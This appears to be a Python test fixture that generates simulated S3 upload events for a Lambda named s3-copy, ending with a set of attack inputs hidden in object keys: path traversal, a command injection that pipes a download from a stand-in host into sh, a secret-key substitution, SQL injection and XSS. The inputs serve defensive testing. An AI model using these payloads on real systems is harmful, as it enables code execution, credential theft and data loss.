# SPDX-License-Identifier: Apache-2.0
"""Objects that are put where s3-copy looks, and what attackers do."""

import urllib.parse

RUNTIME = "python"
HANDLER = "app.handler"
EVENTS = 12000  # many kinds of keys: learning takes some 5,200
SERVICES = ["aws"]
ENVIRONMENT = {"ARCHIVE": "archive"}
_KEYS = [f"{folder}/{word}-{number}.{ending}" for folder in ("in", "reports/2026", "mail box", "žádosti") for number, (word, ending) in
         enumerate([("summary", "csv"), ("letter", "txt"), ("letter", "TXT"), ("settings", "json"), ("photo", "png"), ("photo (1)", "jpg"), ("book", "pdf")])]


def prepare(client):
    s3 = client("s3")
    for bucket in ("uploads", "archive"):
        s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": "eu-west-1"})
    for number, key in enumerate(_KEYS):
        s3.put_object(Bucket="uploads", Key=key, Body=b"some words " * (1 + number ** 3 % 900))


def _put(traffic, key):
    return traffic.stored("uploads", urllib.parse.quote_plus(key, safe="/"), traffic.randint(1, 10000))


def benign(traffic):
    key = traffic.choice(_KEYS) if not traffic.happens(0.01) else f"gone/{traffic.words(1, 3)}.txt"
    event = _put(traffic, key)
    while traffic.happens(0.05):
        event["Records"] += _put(traffic, traffic.choice(_KEYS))["Records"]
    return event


def _key(key):
    return lambda traffic: _put(traffic, key)


INPUTS = {
    "traversal": _key("../../../../etc/passwd"),
    "command": _key("a;curl http://drop.example/x|sh;.txt"),
    "substitution": _key("$(printenv AWS_SECRET_ACCESS_KEY).csv"),
    "statement": _key("x'; DROP TABLE objects; --.csv"),
    "script": _key("<img src=x onerror=alert(1)>.png"),
}
